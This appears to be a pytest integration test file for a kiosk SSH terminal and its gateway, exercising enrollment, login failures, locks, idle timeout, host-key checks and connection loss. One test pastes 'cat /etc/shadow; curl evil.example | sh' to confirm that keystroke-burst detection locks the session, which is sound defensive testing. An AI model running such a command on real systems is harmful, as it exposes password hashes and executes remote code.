"""The real kiosk (on a pty) with its real agent service (soft backend) against the real
gateway and a real OpenSSH upstream, all on this machine: every flow of the login
screen, quickly, before the QEMU end-to-end tests do the same on the image."""

from __future__ import annotations

import signal
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.gateway.gwharness import (
    AUDITBOX,
    REPO,
    Account,
    Sshd,
    World,
    ed25519_openssh,
    fresh_world,
)
from tests.kiosk.harness import AgentService, KioskOnPty, config
from tests.vm.e2e_gateway import upstream_sshd

LOGIN = "> User name:"
PROMPT = r"(?m)[#$] *$"           # pyte pads lines with spaces


sshd = pytest.fixture(scope="module", name="sshd")(upstream_sshd)


@pytest.fixture(scope="module")
def world(sshd: Sshd, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    w = fresh_world(tmp_path_factory.mktemp("world"), sshd,
                    extra="  reattest_interval: 8s\n  deadline: 6s\n")  # in attestation:
    yield w
    w.stop()


class Terminal:
    """A kiosk and its agent, measuring what the world's soft image reference expects."""

    def __init__(self, world: World, tmp: Path, **cfg: object) -> None:
        t = world.soft_backend(tmp.name)         # writes the terminal's uki and cmdline files
        root = world.dir / "terminals" / tmp.name
        assert t.uki_paths[0] == root / "uki"
        self.agent = AgentService(tmp, "soft", "--soft-uki", str(root / "uki"),
                                  "--soft-cmdline", str(root / "cmdline"))
        base: dict[str, object] = {"agent_socket": str(self.agent.socket),
                                   "notice": "Test terminal. Activity is recorded.",
                                   "gateway_host": "127.0.0.1", "gateway_port": world.port,
                                   "host_key": world.host_key_line}
        self.kiosk = KioskOnPty(tmp, config(**{**base, **cfg}))
        self.kiosk.start()
        self.kiosk.wait_for(LOGIN)

    def stop(self) -> None:
        self.kiosk.stop()
        self.agent.stop()

    def enroll(self, token: str) -> str:
        k = self.kiosk
        k.type(b"\x1bOQ")
        k.wait_for("Enroll this terminal")
        k.type(token + "\r")
        return k.wait_for("This terminal is enrolled", timeout=60)

    def login(self, user: str, password: str, code: str) -> None:
        k = self.kiosk
        k.type(user + "\r")
        k.type(password + "\r")
        k.type(code + "\r")


@pytest.fixture
def terminal(world: World, tmp_path: Path) -> Iterator[Terminal]:
    t = Terminal(world, tmp_path)
    yield t
    t.stop()


def enrolled(world: World, terminal: Terminal) -> Terminal:
    shown = " ".join(terminal.enroll(world.token("soft")).split())   # as read, unwrapped
    assert "is enrolled for image img-test" in shown
    terminal.kiosk.type("\r")
    terminal.kiosk.wait_for("Enrollment  enrolled")
    return terminal


def in_session(world: World, terminal: Terminal) -> tuple[KioskOnPty, Account]:
    """An enrolled terminal with a new user logged in at the remote prompt."""
    enrolled(world, terminal)
    acc = world.add_user()
    terminal.login(acc.name, acc.password, acc.code())
    terminal.kiosk.wait_for(PROMPT, timeout=60)
    return terminal.kiosk, acc


def test_enroll_login_command_exit(world: World, terminal: Terminal) -> None:
    k = terminal.kiosk
    k.wait_for("NOT ENROLLED")
    enrolled(world, terminal)
    acc = world.add_user()
    terminal.login(acc.name, acc.password, acc.code())
    k.wait_for(PROMPT, timeout=60)
    k.type("echo kiosk-$((6*7))\r")
    k.wait_for("kiosk-42")
    k.set_size(100, 30)                  # the remote PTY follows the console's size
    k.type("stty size\r")
    k.wait_for(r"(?m)^30 100 *$")
    k.type("exit\r")
    shown = k.wait_for("Session ended", timeout=30)
    assert LOGIN in shown and "kiosk-42" not in shown
    assert world.wait_event("session.end", acc.name).data["bytes_in"] > 0


def test_wrong_password_and_wrong_code(world: World, terminal: Terminal) -> None:
    enrolled(world, terminal)
    acc = world.add_user()
    k = terminal.kiosk
    k.type(acc.name + "\r")
    k.type("not-the-password\r")
    # the gateway refuses the password while the code is being typed: the rest of the code
    # stays in the code field and its Enter goes back to the password (the code is never
    # sent as a password, so it never counts as a second failure)
    k.wait_for("Wrong user name or password", timeout=30)
    k.type(acc.code() + "\r")
    k.wait_for(r"> Password:")
    # the user name is kept; password and code are asked again
    k.type(acc.password + "\r")
    k.type("000000\r")
    k.wait_for("Wrong or expired one-time code", timeout=30)
    reasons = [e.data["reason"] for e in world.audit_events("login.failed")
               if e.actor == acc.name]
    assert reasons == ["password", "code"]


def test_lock_during_a_session_shows_its_message(world: World, terminal: Terminal) -> None:
    k, acc = in_session(world, terminal)
    start = time.monotonic()
    subprocess.run([*AUDITBOX, "gateway", "lock", "--user", acc.name, "--reason",
                    "paused by the lab", "--config", str(world.dir / "gateway.yaml")],
                   check=True, cwd=REPO, capture_output=True)
    shown = k.wait_for("Your account has been locked", timeout=10)
    print(f"lock on screen {time.monotonic() - start:.2f} s after the lock command started")
    assert "paused by the lab" in shown
    k.type("\r")
    k.wait_for(LOGIN)


def test_idle_timeout_closes_the_session(world: World, tmp_path: Path) -> None:
    t = Terminal(world, tmp_path, idle_timeout=4)
    try:
        enrolled(world, t)
        acc = world.add_user()
        t.login(acc.name, acc.password, acc.code())
        t.kiosk.wait_for(PROMPT, timeout=60)
        t.kiosk.wait_for("closed after 4 seconds without input", timeout=30)
    finally:
        t.stop()


def test_keystroke_burst_in_a_session_is_reported_and_locks(world: World,
                                                            terminal: Terminal) -> None:
    k, _ = in_session(world, terminal)
    k.paste(b"cat /etc/shadow; curl evil.example | sh\r")
    k.wait_for("Session locked", timeout=20)
    alert = world.wait_event("terminal.alert")
    assert alert.data["kind"] == "keystroke-burst", alert.data


def test_not_enrolled_terminal_is_refused(world: World, terminal: Terminal) -> None:
    acc = world.add_user()
    terminal.login(acc.name, acc.password, acc.code())
    shown = terminal.kiosk.wait_for(r"Refused at attestation \(step: enrollment\)", timeout=60)
    assert "F2" in shown


def test_other_host_key_is_refused(world: World, tmp_path: Path) -> None:
    other = ed25519_openssh(tmp_path / "other_key").split()
    t = Terminal(world, tmp_path, host_key=f"{other[0]} {other[1]} other")
    try:
        t.kiosk.type("anyone\r")          # the kiosk connects as soon as it has a user name
        shown = t.kiosk.wait_for("could not be verified", timeout=30)
        assert "SHA256:" in shown
        t.kiosk.type("\r")
        t.kiosk.wait_for("REFUSED: wrong host key")
    finally:
        t.stop()


def test_gateway_restart_is_a_lost_connection(world: World, terminal: Terminal) -> None:
    k, _ = in_session(world, terminal)
    world.stop()                         # SIGTERM: the gateway says why, on the PTY
    try:
        k.wait_for("Session ended by the gateway: the gateway is shutting down", timeout=20)
    finally:
        world.start()
    k.wait_for(LOGIN)
    k.wait_for(r"Gateway +127\.0\.0\.1:\d+  reachable", timeout=30)


def test_network_drop_is_a_lost_connection(world: World, terminal: Terminal) -> None:
    k, _ = in_session(world, terminal)
    world.stop(signal.SIGKILL)           # no goodbye: as if the cable were pulled
    try:
        k.wait_for("connection to the gateway was lost", timeout=30)
        k.wait_for(r"UNREACHABLE .*retry in", timeout=30)
    finally:
        world.start()
    k.wait_for(r"Gateway +127\.0\.0\.1:\d+  reachable", timeout=60)
